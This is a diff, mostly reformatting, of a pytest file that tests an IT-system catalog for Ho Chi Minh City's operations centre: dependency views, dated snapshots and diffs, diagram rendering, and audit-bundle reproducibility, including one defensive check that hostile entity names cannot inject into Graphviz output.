@@ -8,26 +8,25 @@ import json
 import re
 import zipfile
 from collections import Counter, deque
+from collections.abc import Iterator
 from pathlib import Path
-from typing import Iterator
 
 import pytest
+from conftest import BACKENDS, SAMPLE, FakeClock, entity, make_store, rel
 
 from catalog.changelog import canonical_json
 from catalog.errors import CatalogError, ValidationFailed
 from catalog.model import LocalText, OwnerPeriod
 from catalog.store.base import CatalogStore, EntityFilter, WriteContext
-from conftest import BACKENDS, SAMPLE, FakeClock, entity, make_store, rel
 from diagrams import ViewParams, build, dot_for, draw, registry, to_dot
 from diagrams.bundle import build_bundle, safe_cell, verify_bundle
 from diagrams.dot import node_id
 from diagrams.facts import parse_graph
 from diagrams.render import fix_pdf_date, run_dot
-from diagrams.snapshot import NothingRecorded, Snapshot, clear_cache, days, recorded_graph, revision_at, \
-    snapshot_from
+from diagrams.snapshot import NothingRecorded, Snapshot, clear_cache, days, recorded_graph, revision_at, snapshot_from
 from importers.base import run_import
 
-RECORDED = dt.datetime(2025, 1, 1, tzinfo=dt.timezone.utc)  # the sample is recorded before the 2025 mergers
+RECORDED = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)  # the sample is recorded before the 2025 mergers
 BEFORE, AFTER = "2025-02-01", "2025-08-01"
 IOC = "platform:hcm-ioc"
 # imported as users do: control characters other than tab and line breaks are refused on import now (catalog.text);
@@ -49,8 +48,16 @@ def expected_ioc_members(root: str) -> set[str]:
     """Independently of diagrams/: a BFS over the sample JSON, against data flow, from the IOC."""
     data = json.loads(SAMPLE.read_text(encoding="utf-8"))
     # relationship type -> True when the source depends on the target (else the target depends on the source)
-    source_depends = {"reads": True, "consumes": True, "published_on": True, "writes": False, "provides": False,
-                      "exposes": False, "flows_to": False, "feeds": False}
+    source_depends = {
+        "reads": True,
+        "consumes": True,
+        "published_on": True,
+        "writes": False,
+        "provides": False,
+        "exposes": False,
+        "flows_to": False,
+        "feeds": False,
+    }
     upstream: dict[str, set[str]] = {}
     for r in data["relationships"]:
         if r["type"] not in source_depends or r.get("properties", {}).get("status") == "retired":
@@ -68,17 +75,24 @@ def expected_ioc_members(root: str) -> set[str]:
 
 def load(store: CatalogStore, path: Path, entities: list, relationships: list) -> None:
     """Write through an import (native JSON), as users do."""
-    doc = {"format": "ioc-catalog", "format_version": 1,
-           "entities": [e.model_dump(mode="json", exclude={"version", "created_at", "updated_at", "provenance"})
-                        for e in entities],
-           "relationships": [r.model_dump(mode="json", exclude={"id", "version", "created_at", "updated_at",
-                                                                 "provenance"}) for r in relationships]}
+    doc = {
+        "format": "ioc-catalog",
+        "format_version": 1,
+        "entities": [
+            e.model_dump(mode="json", exclude={"version", "created_at", "updated_at", "provenance"}) for e in entities
+        ],
+        "relationships": [
+            r.model_dump(mode="json", exclude={"id", "version", "created_at", "updated_at", "provenance"})
+            for r in relationships
+        ],
+    }
     path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
     report = run_import(store, path)
     assert report.loaded and not report.rejected, report.rejected
 
 
 # --- views ---------------------------------------------------------------------------------------------------------
+
 
 def test_registry_has_the_builtin_views() -> None:
     assert {"ioc", "department", "context", "shared-db", "landscape", "diff"} <= set(registry())
@@ -98,8 +112,11 @@ def test_ioc_view_has_every_system_and_database_with_a_path_to_the_ioc(sample: C
     # every relationship that carries data straight into the IOC is an arrow into it
     ioc_id = node_id(IOC)
     data = json.loads(SAMPLE.read_text(encoding="utf-8"))
-    into = [r for r in data["relationships"] if r["target"] == IOC and r["type"] == "feeds"
-            and r.get("properties", {}).get("status") != "retired"]
+    into = [
+        r
+        for r in data["relationships"]
+        if r["target"] == IOC and r["type"] == "feeds" and r.get("properties", {}).get("status") != "retired"
+    ]
     into += [r for r in data["relationships"] if r["source"] == IOC and r["type"] in ("reads", "consumes")]
     for r in into:
         other = r["source"] if r["target"] == IOC else r["target"]
@@ -144,8 +161,13 @@ def test_other_views(sample: CatalogStore) -> None:
     ctx = build(sample, "context", ViewParams(ref="database:hcm-csdl-ngap", depth=1, direction="in"))
     assert set(ctx.nodes) == {"database:hcm-csdl-ngap", "system:hcm-scada-ngap", IOC}
     db = build(sample, "shared-db", ViewParams(ref="database:hcm-csdl-nguoi-dan"))
-    assert {"system:hcm-an-sinh", "service:hcm-api-nguoi-dan", "platform:hcm-lgsp", "system:hcm-ho-tich",
-            "system:hcm-quan-ly-giao-duc"} <= set(db.nodes)
+    assert {
+        "system:hcm-an-sinh",
+        "service:hcm-api-nguoi-dan",
+        "platform:hcm-lgsp",
+        "system:hcm-ho-tich",
+        "system:hcm-quan-ly-giao-duc",
+    } <= set(db.nodes)
     land = build(sample, "landscape", ViewParams(as_of=AFTER))
     assert not land.notes and "system:hn-ihanoi" in land.nodes
     small = build(sample, "landscape", ViewParams(as_of=AFTER, limit=20))
@@ -170,22 +192,34 @@ def drawn_from_models(store: CatalogStore, view: str, params: ViewParams) -> str
 
 def part_cases(store: CatalogStore) -> list[tuple[str, ViewParams]]:
     ents = list(store.iter_entities())
-    cases = [("ioc", ViewParams()), ("ioc", ViewParams(ref=IOC)), ("landscape", ViewParams()),
-             ("landscape", ViewParams(limit=20))]
+    cases = [
+        ("ioc", ViewParams()),
+        ("ioc", ViewParams(ref=IOC)),
+        ("landscape", ViewParams()),
+        ("landscape", ViewParams(limit=20)),
+    ]
     cases += [("shared-db", ViewParams(ref=e.ref)) for e in ents if e.kind == "database"]
     cases += [("department", ViewParams(ref=e.ref)) for e in ents if e.kind == "organization"]
-    for ref in ["database:hcm-csdl-ngap", "system:hcm-cong-1022", IOC, "platform:hcm-lgsp", "organization:hcm-sxd",
-                "organization:hcm-sttt"]:
+    for ref in [
+        "database:hcm-csdl-ngap",
+        "system:hcm-cong-1022",
+        IOC,
+        "platform:hcm-lgsp",
+        "organization:hcm-sxd",
+        "organization:hcm-sttt",
+    ]:
         for depth in (0, 1, 2):
             for direction in ("in", "out", "both"):
                 cases.append(("context", ViewParams(ref=ref, depth=depth, direction=direction)))
     return cases
 
 
-@pytest.mark.parametrize("when", ["today 2025-01-02", "today 2025-08-01", "as_of " + BEFORE, "as_of " + AFTER,
-                                  "valid_on " + BEFORE])
-def test_views_read_only_their_part_and_draw_what_the_models_draw(sample: CatalogStore, when: str,
-                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+@pytest.mark.parametrize(
+    "when", ["today 2025-01-02", "today 2025-08-01", "as_of " + BEFORE, "as_of " + AFTER, "valid_on " + BEFORE]
+)
+def test_views_read_only_their_part_and_draw_what_the_models_draw(
+    sample: CatalogStore, when: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """ioc, department, context and shared-db read only their part of the record (store.part_json), when the record
     to draw is the current one (no as_of, or nothing written since as_of: the sample is recorded on 2025-01-01);
     landscape reads the whole record as stored JSON. Each gives the DOT drawn from a whole snapshot of full models,
@@ -196,8 +230,11 @@ def test_views_read_only_their_part_and_draw_what_the_models_draw(sample: Catalo
     assert isinstance(clock, FakeClock)
     saved = clock.now
     how, day = when.split()
-    clock.set(dt.datetime.fromisoformat(day).replace(hour=12, tzinfo=dt.timezone.utc) if how == "today"
-              else dt.datetime(2025, 1, 2, 12, tzinfo=dt.timezone.utc))
+    clock.set(
+        dt.datetime.fromisoformat(day).replace(hour=12, tzinfo=dt.UTC)
+        if how == "today"
+        else dt.datetime(2025, 1, 2, 12, tzinfo=dt.UTC)
+    )
     real_load = diagrams.views.load_snapshot
 
     def no_whole_read(*args: object, **kw: object) -> object:
@@ -223,8 +260,9 @@ def test_views_read_only_their_part_and_draw_what_the_models_draw(sample: Catalo
 
 
 @pytest.mark.parametrize("rewind_limit", [0, 500])
-def test_a_record_changed_since_the_date_draws_as_it_was(tmp_path: Path, rewind_limit: int,
-                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_record_changed_since_the_date_draws_as_it_was(
+    tmp_path: Path, rewind_limit: int, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """When something was written after as_of, a view draws the record at as_of as the models of store.graph_as_of
     draw it: rebuilt from the change log (rewind_limit 0), or the current tables with what was written since put
     back (parts and whole record): added, changed (owner moved, renamed), deleted entities and relationships, a
@@ -236,14 +274,20 @@ def test_a_record_changed_since_the_date_draws_as_it_was(tmp_path: Path, rewind_
     clock = FakeClock(RECORDED)
     store.clock = clock
     run_import(store, SAMPLE)
-    clock.set(dt.datetime(2025, 6, 1, tzinfo=dt.timezone.utc))
-    load(store, tmp_path / "new.json",
-         [entity("system:hcm-new", "Hệ thống mới", owner="organization:hcm-skhcn"),
-          entity("organization:hcm-sxd-unit", "Phòng mới", parent="organization:hcm-sxd")],
-         [rel("feeds", "system:hcm-new", IOC, protocol="rest")])
+    clock.set(dt.datetime(2025, 6, 1, tzinfo=dt.UTC))
+    load(
+        store,
+        tmp_path / "new.json",
+        [
+            entity("system:hcm-new", "Hệ thống mới", owner="organization:hcm-skhcn"),
+            entity("organization:hcm-sxd-unit", "Phòng mới", parent="organization:hcm-sxd"),
+        ],
+        [rel("feeds", "system:hcm-new", IOC, protocol="rest")],
+    )
     ctx = WriteContext(actor="test")
-    moved = next(e for e in store.list_entities(EntityFilter(owner="organization:hcm-sxd", limit=5))
-                 if e.kind != "organization")
+    moved = next(
+        e for e in store.list_entities(EntityFilter(owner="organization:hcm-sxd", limit=5)) if e.kind != "organization"
+    )
     update = {"owner_history": [OwnerPeriod(org="organization:hcm-sxd-unit")], "name": LocalText(vi="Đổi", en="R")}
     store.update_entity(moved.model_copy(update=update), moved.version, ctx)
     gone = store.list_relationships(IOC)[0]
@@ -262,11 +306,15 @@ def test_a_record_changed_since_the_date_draws_as_it_was(tmp_path: Path, rewind_
             got = dot_for(store, view, params)
             assert expected is None or got == expected, (view, params)
         ioc = build(store, "ioc", ViewParams(ref=IOC, as_of=day)).nodes
-        assert ("system:hcm-new" in ioc, "system:hcm-cong-1022" in ioc) == ((True, False) if day > "2025-06" else
-                                                                           (False, True))
+        assert ("system:hcm-new" in ioc, "system:hcm-cong-1022" in ioc) == (
+            (True, False) if day > "2025-06" else (False, True)
+        )
     d = build(store, "diff", ViewParams(from_date="2025-05-01", to_date="2025-07-01"))
-    assert (d.nodes["system:hcm-new"].highlight, d.nodes["system:hcm-cong-1022"].highlight,
-            d.nodes[moved.ref].highlight) == ("added", "removed", "changed")
+    assert (
+        d.nodes["system:hcm-new"].highlight,
+        d.nodes["system:hcm-cong-1022"].highlight,
+        d.nodes[moved.ref].highlight,
+    ) == ("added", "removed", "changed")
     store.close()
 
 
@@ -281,20 +329,35 @@ def test_facts_answer_as_the_models(sample: CatalogStore) -> None:
     for ref, e in models.items():
         for f in (facts[ref], parse_graph([json.dumps(e.content(), ensure_ascii=True, indent=1)], [])[0][ref]):
             assert (f.ref, f.kind, f.code, f.name, f.attributes, f.valid_from, f.valid_to) == (
-                e.ref, e.kind, e.code, e.name, e.attributes, e.valid_from, e.valid_to)
+                e.ref,
+                e.kind,
+                e.code,
+                e.name,
+                e.attributes,
+                e.valid_from,
+                e.valid_to,
+            )
             assert [f.owner_on(d) for d in days_] == [e.owner_on(d) for d in days_]
             assert (f.owner, f.tags, f.description, f.content()) == (e.owner, e.tags, e.description, e.content())
     assert sum(e.owner_on(dt.date(2025, 2, 28)) != e.owner_on(dt.date(2025, 3, 1)) for e in models.values()) > 3
     by_id = {r.id: r for r in sample.all_relationships()}
     assert sorted(r.id for r in rel_facts) == sorted(by_id)
     odd = [{**r.content(), "valid_from": "2025-01-01"} for r in list(by_id.values())[:5]]
-    for f in rel_facts + parse_graph([], [json.dumps(r.content(), ensure_ascii=True, indent=1)
-                                          for r in by_id.values()])[1]:
+    for f in (
+        rel_facts + parse_graph([], [json.dumps(r.content(), ensure_ascii=True, indent=1) for r in by_id.values()])[1]
+    ):
         r = by_id[f.id]
         assert (f.type, f.source, f.target, f.valid_from, f.valid_to, f.properties, f.content()) == (
-            r.type, r.source, r.target, r.valid_from, r.valid_to, r.properties, r.content())
+            r.type,
+            r.source,
+            r.target,
+            r.valid_from,
+            r.valid_to,
+            r.properties,
+            r.content(),
+        )
         assert f.state() == {k: v for k, v in r.content().items() if k != "provenance"}
-    for d, f in zip(odd, parse_graph([], [canonical_json(d) for d in odd])[1]):
+    for d, f in zip(odd, parse_graph([], [canonical_json(d) for d in odd])[1], strict=False):
         assert (f.id, f.valid_from, f.valid_to) == (d["id"], dt.date(2025, 1, 1), None)
 
 
@@ -314,9 +377,13 @@ def test_diff_shows_what_was_recorded_between_two_dates(tmp_path: Path) -> None:
     clock = FakeClock(RECORDED)
     store.clock = clock
     run_import(store, SAMPLE)
-    clock.set(dt.datetime(2025, 6, 1, tzinfo=dt.timezone.utc))
-    load(store, tmp_path / "new.json", [entity("system:hcm-new", "Hệ thống mới", owner="organization:hcm-skhcn")],
-         [rel("feeds", "system:hcm-new", IOC, protocol="rest")])
+    clock.set(dt.datetime(2025, 6, 1, tzinfo=dt.UTC))
+    load(
+        store,
+        tmp_path / "new.json",
+        [entity("system:hcm-new", "Hệ thống mới", owner="organization:hcm-skhcn")],
+        [rel("feeds", "system:hcm-new", IOC, protocol="rest")],
+    )
     d = build(store, "diff", ViewParams(from_date="2025-05-01", to_date="2025-06-15"))
     assert d.nodes["system:hcm-new"].highlight == "added"
     assert [(e.tail, e.head, e.highlight) for e in d.edges] == [("system:hcm-new", IOC, "added")]
@@ -332,10 +399,11 @@ def whole_from_models(store: CatalogStore, day: dt.date) -> Snapshot:
 
     revision = recorded_revision(store, day)
     g = recorded_graph(store, day)
-    ents, rels = parse_graph([canonical_json(e.content()) for e in g.entities.values()],
-                             [canonical_json(r.content()) for r in g.relationships])
-    return snapshot_from(store.metamodel, dataclasses.replace(g, entities=ents, relationships=rels), day, day,
-                         revision)
+    ents, rels = parse_graph(
+        [canonical_json(e.content()) for e in g.entities.values()],
+        [canonical_json(r.content()) for r in g.relationships],
+    )
+    return snapshot_from(store.metamodel, dataclasses.replace(g, entities=ents, relationships=rels), day, day, revision)
 
 
 def diff_from_models(store: CatalogStore, params: ViewParams, wholes: dict | None = None) -> str:
@@ -350,8 +418,9 @@ def diff_from_models(store: CatalogStore, params: ViewParams, wholes: dict | Non
     return to_dot(registry()["diff"].draw(*snaps, params), store.metamodel)  # type: ignore[attr-defined]
 
 
-def assert_diffs_read_only_what_changed(store: CatalogStore, days_: list[str], monkeypatch: pytest.MonkeyPatch,
-                                        langs: tuple[str, ...] = ("vi",)) -> int:
+def assert_diffs_read_only_what_changed(
+    store: CatalogStore, days_: list[str], monkeypatch: pytest.MonkeyPatch, langs: tuple[str, ...] = ("vi",)
+) -> int:
     """For every pair of days, the diff read by diagrams.changes (never both whole records) is the DOT drawn from
     both whole records of full models, or the same error. Returns how many pairs drew something."""
     import diagrams.views
@@ -361,7 +430,7 @@ def assert_diffs_read_only_what_changed(store: CatalogStore, days_: list[str], m
 
     drawn, wholes = 0, {}
     for i, a in enumerate(days_):
-        for b in days_[i + 1:]:
+        for b in days_[i + 1 :]:
             for lang in langs:
                 params = ViewParams(from_date=a, to_date=b, lang=lang)
                 clear_cache()
@@ -378,13 +447,21 @@ def assert_diffs_read_only_what_changed(store: CatalogStore, days_: list[str], m
     return drawn
 
 
-def test_diff_reads_only_what_changed_across_the_mergers(sample: CatalogStore,
-                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+def test_diff_reads_only_what_changed_across_the_mergers(sample: CatalogStore, monkeypatch: pytest.MonkeyPatch) -> None:
     """Nothing written after the sample was recorded: every change between two days is a world-date change
     (owners moving on 2025-03-01 and 2025-07-01, units created and merged away), found without parsing both
     records; the diff draws what the whole records draw, in both languages."""
-    days_ = ["2024-12-31", "2025-01-01", BEFORE, "2025-02-28", "2025-03-01", "2025-06-30", "2025-07-01", AFTER,
-             "2026-01-01"]
+    days_ = [
+        "2024-12-31",
+        "2025-01-01",
+        BEFORE,
+        "2025-02-28",
+        "2025-03-01",
+        "2025-06-30",
+        "2025-07-01",
+        AFTER,
+        "2026-01-01",
+    ]
     assert assert_diffs_read_only_what_changed(sample, days_, monkeypatch, ("vi", "en")) >= 20
 
 
@@ -402,48 +479,82 @@ def test_diff_reads_only_what_changed_after_later_writes(tmp_path: Path, monkeyp
     store.clock = clock
     run_import(store, SAMPLE)
     ctx = WriteContext(actor="test")
-    clock.set(dt.datetime(2025, 4, 1, tzinfo=dt.timezone.utc))
+    clock.set(dt.datetime(2025, 4, 1, tzinfo=dt.UTC))
     later = entity("system:hcm-later", "Hệ thống sau", owner="organization:hcm-skhcn").model_copy(
-        update={"valid_from": dt.date(2025, 5, 15)})
-    load(store, tmp_path / "april.json",
-         [entity("system:hcm-new", "Hệ thống mới", owner="organization:hcm-skhcn"), later],
-         [rel("feeds", "system:hcm-new", IOC, protocol="rest"), rel("feeds", "system:hcm-later", IOC),
-          *(rel("flows_to", "system:hcm-new", end).model_copy(
-              update={"valid_from": dt.date(2025, 5, 1), "valid_to": dt.date(2025, 9, 1)})
-            for end in ("system:hcm-cong-1022", "system:hcm-ho-tich"))])
-    moved = next(e for e in store.list_entities(EntityFilter(owner="organization:hcm-sxd", limit=5))
-                 if e.kind != "organization")
-    store.update_entity(moved.model_copy(update={"owner_history": [OwnerPeriod(org="organization:hcm-skhcn")]}),
-                        moved.version, ctx)
-    clock.set(dt.datetime(2025, 6, 1, tzinfo=dt.timezone.utc))
+        update={"valid_from": dt.date(2025, 5, 15)}
+    )
+    load(
+        store,
+        tmp_path / "april.json",
+        [entity("system:hcm-new", "Hệ thống mới", owner="organization:hcm-skhcn"), later],
+        [
+            rel("feeds", "system:hcm-new", IOC, protocol="rest"),
+            rel("feeds", "system:hcm-later", IOC),
+            *(
+                rel("flows_to", "system:hcm-new", end).model_copy(
+                    update={"valid_from": dt.date(2025, 5, 1), "valid_to": dt.date(2025, 9, 1)}
+                )
+                for end in ("system:hcm-cong-1022", "system:hcm-ho-tich")
+            ),
+        ],
+    )
+    moved = next(
+        e for e in store.list_entities(EntityFilter(owner="organization:hcm-sxd", limit=5)) if e.kind != "organization"
+    )
+    store.update_entity(
+        moved.model_copy(update={"owner_history": [OwnerPeriod(org="organization:hcm-skhcn")]}), moved.version, ctx
+    )
+    clock.set(dt.datetime(2025, 6, 1, tzinfo=dt.UTC))
     renamed = store.get_entity("system:hcm-ho-tich")
-    store.update_entity(renamed.model_copy(update={"name": LocalText(vi="Hộ tịch mới", en="Civil status")}),
-                        renamed.version, ctx)
+    store.update_entity(
+        renamed.model_copy(update={"name": LocalText(vi="Hộ tịch mới", en="Civil status")}), renamed.version, ctx
+    )
     proto = next(r for r in store.list_relationships(IOC) if r.properties.get("protocol"))
-    store.update_relationship(proto.model_copy(update={"properties": {**proto.properties, "protocol": "sftp"}}),
-                              proto.version, ctx)
+    store.update_relationship(
+        proto.model_copy(update={"properties": {**proto.properties, "protocol": "sftp"}}), proto.version, ctx
+    )
     gone = next(r for r in store.list_relationships("database:hcm-csdl-ngap"))
     store.delete_relationship(gone.id, gone.version, ctx)
     store.delete_entity("system:hcm-cong-1022", store.get_entity("system:hcm-cong-1022").version, ctx, cascade=True)
     retired = store.get_entity("system:hcm-utmc")
     store.update_entity(retired.model_copy(update={"valid_to": dt.date(2025, 7, 15)}), retired.version, ctx)
-    clock.set(dt.datetime(2025, 10, 1, tzinfo=dt.timezone.utc))
+    clock.set(dt.datetime(2025, 10, 1, tzinfo=dt.UTC))
     again = store.get_entity("system:hcm-new")
-    store.update_entity(again.model_copy(update={"name": LocalText(vi="Đổi tên lần nữa", en="Renamed")}),
-                        again.version, ctx)
+    store.update_entity(
+        again.model_copy(update={"name": LocalText(vi="Đổi tên lần nữa", en="Renamed")}), again.version, ctx
+    )
     store.delete_entity("system:hcm-later", store.get_entity("system:hcm-later").version, ctx, cascade=True)
 
-    days_ = ["2025-01-01", BEFORE, "2025-03-01", "2025-04-01", "2025-05-01", "2025-05-10", "2025-06-01",
-             "2025-07-01", "2025-07-15", "2025-07-20", AFTER, "2025-09-01", "2025-10-01", "2026-01-01"]
+    days_ = [
+        "2025-01-01",
+        BEFORE,
+        "2025-03-01",
+        "2025-04-01",
+        "2025-05-01",
+        "2025-05-10",
+        "2025-06-01",
+        "2025-07-01",
+        "2025-07-15",
+        "2025-07-20",
+        AFTER,
+        "2025-09-01",
+        "2025-10-01",
+        "2026-01-01",
+    ]
     assert assert_diffs_read_only_what_changed(store, days_, monkeypatch) >= 50
     d = build(store, "diff", ViewParams(from_date=BEFORE, to_date="2025-05-10"))
     assert (d.nodes["system:hcm-new"].highlight, d.nodes[moved.ref].highlight) == ("added", "changed")
     assert "system:hcm-later" not in d.nodes  # recorded, but valid only from 2025-05-15
     d = build(store, "diff", ViewParams(from_date="2025-05-10", to_date="2025-07-20"))
-    assert {ref: d.nodes[ref].highlight for ref in ("system:hcm-later", "system:hcm-cong-1022", "system:hcm-ho-tich",
-                                                    "system:hcm-utmc")} == {
-        "system:hcm-later": "added", "system:hcm-cong-1022": "removed", "system:hcm-ho-tich": "changed",
-        "system:hcm-utmc": "removed"}
+    assert {
+        ref: d.nodes[ref].highlight
+        for ref in ("system:hcm-later", "system:hcm-cong-1022", "system:hcm-ho-tich", "system:hcm-utmc")
+    } == {
+        "system:hcm-later": "added",
+        "system:hcm-cong-1022": "removed",
+        "system:hcm-ho-tich": "changed",
+        "system:hcm-utmc": "removed",
+    }
     assert moved.ref not in d.nodes or d.nodes[moved.ref].highlight == "context"  # moved before both days
     highlights = {(e.tail, e.head): e.highlight for e in d.edges}
     assert highlights[("system:hcm-later", IOC)] == "added"
@@ -477,8 +588,10 @@ def test_diff_of_a_synthetic_catalog_reads_only_what_changed(tmp_path: Path, mon
     store = make_store("sqlite", tmp_path)
     store.clock = FakeClock(RECORDED)
     ents, rels = generate(entities=1_000)
-    store.bulk_load(BulkLoad(source="test:synthetic", run=new_run_id(), entities=ents, relationships=rels),
-                    WriteContext(actor="test"))
+    store.bulk_load(
+        BulkLoad(source="test:synthetic", run=new_run_id(), entities=ents, relationships=rels),
+        WriteContext(actor="test"),
+    )
     days_ = [BEFORE, "2025-02-28", "2025-03-01", "2025-06-30", "2025-07-01", AFTER]
     assert assert_diffs_read_only_what_changed(store, days_, monkeypatch) >= 10
     d = build(store, "diff", ViewParams(from_date=BEFORE, to_date=AFTER))
@@ -486,8 +599,9 @@ def test_diff_of_a_synthetic_catalog_reads_only_what_changed(tmp_path: Path, mon
     store.close()
 
 
-def test_a_diff_drawn_again_reads_nothing_until_something_is_written(tmp_path: Path,
-                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_diff_drawn_again_reads_nothing_until_something_is_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     store = make_store("sqlite", tmp_path)
     clock = FakeClock(RECORDED)
     store.clock = clock
@@ -499,10 +613,13 @@ def test_a_diff_drawn_again_reads_nothing_until_something_is_written(tmp_path: P
     clear_cache()
     first = dot_for(store, "diff", params)
     assert dot_for(store, "diff", params) == first and len(reads) == 1
-    clock.set(dt.datetime(2025, 5, 1, tzinfo=dt.timezone.utc))
+    clock.set(dt.datetime(2025, 5, 1, tzinfo=dt.UTC))
     e = store.get_entity("system:hcm-ho-tich")
-    store.update_entity(e.model_copy(update={"name": LocalText(vi="Hộ tịch mới", en="Civil status")}), e.version,
-                        WriteContext(actor="test"))
+    store.update_entity(
+        e.model_copy(update={"name": LocalText(vi="Hộ tịch mới", en="Civil status")}),
+        e.version,
+        WriteContext(actor="test"),
+    )
     again = dot_for(store, "diff", params)
     assert len(reads) == 2 and again != first and "Hộ tịch mới" in again
     store.close()
@@ -514,26 +631,54 @@ def test_entities_that_may_change_between_two_days_are_found_without_parsing() -
     from diagrams.changes import bounded_between
 
     d = dt.date
-    days_ = [d(1999, 12, 31), d(2024, 12, 31), d(2025, 1, 1), d(2025, 2, 28), d(2025, 3, 1), d(2025, 3, 2),
-             d(2025, 12, 31), d(2026, 1, 1), d(2099, 1, 1)]
+    days_ = [
+        d(1999, 12, 31),
+        d(2024, 12, 31),
+        d(2025, 1, 1),
+        d(2025, 2, 28),
+        d(2025, 3, 1),
+        d(2025, 3, 2),
+        d(2025, 12, 31),
+        d(2026, 1, 1),
+        d(2099, 1, 1),
+    ]
     ents = [entity("system:plain", "S", owner="organization:a")]
     for i, b in enumerate(days_):
         ents.append(entity(f"system:from-{i}", "S").model_copy(update={"valid_from": b}))
         ents.append(entity(f"system:to-{i}", "S").model_copy(update={"valid_to": b}))
-        ents.append(entity(f"system:moved-{i}", "S").model_copy(update={"owner_history": [
-            OwnerPeriod(org="organization:a", end=b), OwnerPeriod(org="organization:b", start=b)]}))
-        ents.append(entity(f"system:gap-{i}", "S").model_copy(update={"owner_history": [
-            OwnerPeriod(org="organization:a", start=d(1990, 1, 1), end=b)]}))
+        ents.append(
+            entity(f"system:moved-{i}", "S").model_copy(
+                update={
+                    "owner_history": [
+                        OwnerPeriod(org="organization:a", end=b),
+                        OwnerPeriod(org="organization:b", start=b),
+                    ]
+                }
+            )
+        )
+        ents.append(
+            entity(f"system:gap-{i}", "S").model_copy(
+                update={"owner_history": [OwnerPeriod(org="organization:a", start=d(1990, 1, 1), end=b)]}
+            )
+        )
     texts = {e.ref: canonical_json(e.content()) for e in ents}
     loose = {e.ref: json.dumps(e.content(), indent=1, ensure_ascii=False) for e in ents}
     assert all(t.startswith('{"attributes":{') for t in texts.values())
     for i, start in enumerate(days_):
-        for end in days_[i + 1:]:
-            differ = {e.ref for e in ents if (e.valid_from is None or e.valid_from <= start) != (
-                e.valid_from is None or e.valid_from <= end) or (e.valid_to is None or start < e.valid_to) != (
-                e.valid_to is None or end < e.valid_to) or e.owner_on(start) != e.owner_on(end)}
-            bounded = {e.ref for e in ents for b in [e.valid_from, e.valid_to] + [
-                x for p in e.owner_history for x in (p.start, p.end)] if b is not None and start < b <= end}
+        for end in days_[i + 1 :]:
+            differ = {
+                e.ref
+                for e in ents
+                if (e.valid_from is None or e.valid_from <= start) != (e.valid_from is None or e.valid_from <= end)
+                or (e.valid_to is None or start < e.valid_to) != (e.valid_to is None or end < e.valid_to)
+                or e.owner_on(start) != e.owner_on(end)
+            }
+            bounded = {
+                e.ref
+                for e in ents
+                for b in [e.valid_from, e.valid_to] + [x for p in e.owner_history for x in (p.start, p.end)]
+                if b is not None and start < b <= end
+            }
             assert differ <= bounded
             for form in (texts, loose):
                 found = {json.loads(t)["ref"] for t in bounded_between(list(form.values()), start, end)}
@@ -542,10 +687,14 @@ def test_entities_that_may_change_between_two_days_are_found_without_parsing() -
 
 # --- DOT, rendering ----------------------------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("fmt", ["dot", "svg", "png", "pdf"])
 def test_same_catalog_same_view_same_bytes(sample: CatalogStore, fmt: str) -> None:
-    for view, p in [("ioc", ViewParams(as_of=AFTER)), ("landscape", ViewParams(as_of=AFTER)),
-                    ("context", ViewParams(ref="system:hcm-cong-1022", depth=2, as_of=AFTER))]:
+    for view, p in [
+        ("ioc", ViewParams(as_of=AFTER)),
+        ("landscape", ViewParams(as_of=AFTER)),
+        ("context", ViewParams(ref="system:hcm-cong-1022", depth=2, as_of=AFTER)),
+    ]:
         assert draw(sample, view, p, fmt) == draw(sample, view, p, fmt), (view, fmt)
 
 
@@ -566,12 +715,23 @@ def test_dot_is_sorted_stamped_styled_and_linked(sample: CatalogStore) -> None:
 
 def test_hostile_names_are_drawn_as_text(tmp_path: Path) -> None:
     store = make_store("sqlite", tmp_path)
-    ents = [entity("organization:evil", HOSTILE[1]),
-            entity("platform:ioc", "IOC", owner="organization:evil", platform_type="operations_centre",
-                   platform_subtype="city_ioc")]
+    ents = [
+        entity("organization:evil", HOSTILE[1]),
+        entity(
+            "platform:ioc",
+            "IOC",
+            owner="organization:evil",
+            platform_type="operations_centre",
+            platform_subtype="city_ioc",
+        ),
+    ]
     ents += [entity(f"system:s{i}", name, owner="organization:evil") for i, name in enumerate(HOSTILE)]
-    load(store, tmp_path / "evil.json", ents,
-         [rel("feeds", f"system:s{i}", "platform:ioc", data=name) for i, name in enumerate(HOSTILE)])
+    load(
+        store,
+        tmp_path / "evil.json",
+        ents,
+        [rel("feeds", f"system:s{i}", "platform:ioc", data=name) for i, name in enumerate(HOSTILE)],
+    )
     dot = dot_for(store, "ioc")
     # Graphviz itself reads exactly the nodes and edges we wrote: nothing injected
     layout = json.loads(run_dot(dot, "json"))
@@ -622,6 +782,7 @@ def test_pdf_date_is_rewritten_in_place() -> None:
 
 # --- audit bundle ------------------------------------------------------------------------------------------------
 
+
 def test_bundle_is_reproducible_and_verifies(sample: CatalogStore, tmp_path: Path) -> None:
     a, b = tmp_path / "a.zip", tmp_path / "b.zip"
     manifest = build_bundle(sample, AFTER, a)
@@ -632,8 +793,16 @@ def test_bundle_is_reproducible_and_verifies(sample: CatalogStore, tmp_path: Pat
     with zipfile.ZipFile(a) as z:
         names = z.namelist()
         assert names == sorted(names)
-        assert {"manifest.json", "changelog.jsonl", "compliance.json", "diagrams/ioc.svg", "diagrams/ioc.pdf",
-                "diagrams/landscape.svg", "diagrams/landscape.pdf", "inventory/system.csv"} <= set(names)
+        assert {
+            "manifest.json",
+            "changelog.jsonl",
+            "compliance.json",
+            "diagrams/ioc.svg",
+            "diagrams/ioc.pdf",
+            "diagrams/landscape.svg",
+            "diagrams/landscape.pdf",
+            "inventory/system.csv",
+        } <= set(names)
         assert all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in z.infolist())
         csv_text = z.read("inventory/system.csv")
         assert csv_text.startswith(b"\xef\xbb\xbf") and "Cổng thông tin 1022".encode() in csv_text
@@ -662,14 +831,17 @@ def test_bundle_xlsx_inventory(sample: CatalogStore, tmp_path: Path) -> None:
             assert b"2025-08-01T00:00:00Z" in x.read("docProps/core.xml")
